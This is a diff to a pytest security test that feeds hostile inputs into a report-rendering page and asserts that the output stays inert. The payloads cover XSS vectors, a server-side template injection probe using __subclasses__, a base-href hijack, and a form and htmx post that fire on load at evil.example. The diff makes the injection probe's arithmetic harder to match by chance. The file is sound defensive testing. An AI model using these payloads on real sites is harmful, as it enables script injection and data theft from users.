@@ -24,7 +24,7 @@ HOSTILE = [
     pytest.param(SCRIPT, id="a script"),
     pytest.param('"><svg onload=alert(1)><img src=https://evil.example/pixel>', id="an SVG and a pixel, out of an attribute"),
     pytest.param("'><a href='javascript:alert(1)'>x</a>", id="a link that acts"),
-    pytest.param("{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}", id="a template"),
+    pytest.param("{{ 8713 * 9241 }}{% for x in ().__class__.__base__.__subclasses__() %}", id="a template"),
     pytest.param("</title></textarea></style><base href=https://evil.example/>", id="ends of elements"),
     pytest.param(
         "<form action=https://evil.example/><button hx-post=https://evil.example/ hx-trigger=load>", id="a form, and an attribute of htmx"
@@ -90,7 +90,7 @@ def test_words_of_a_report_are_only_words(words: str, tmp_path: Path) -> None:
             assert re.findall(r"<script(?! src=\"/static/| type=\"module\" src=\"/static/)", page) == []
             assert re.findall(r"""<[a-z][^>]*\s(?:on\w+|srcdoc|formaction|style)=""", page) == []
             assert re.findall(r"""<[a-z][^>]*\s(?:src|href|action|hx-\w+)="(?:javascript|https?:|//)""", answer.text) == []
-            assert "{{ 7" not in words or "49" not in page
+            assert "80516833" not in page
             assert not set(answer.text) & set(CONTROLS), path
 
 
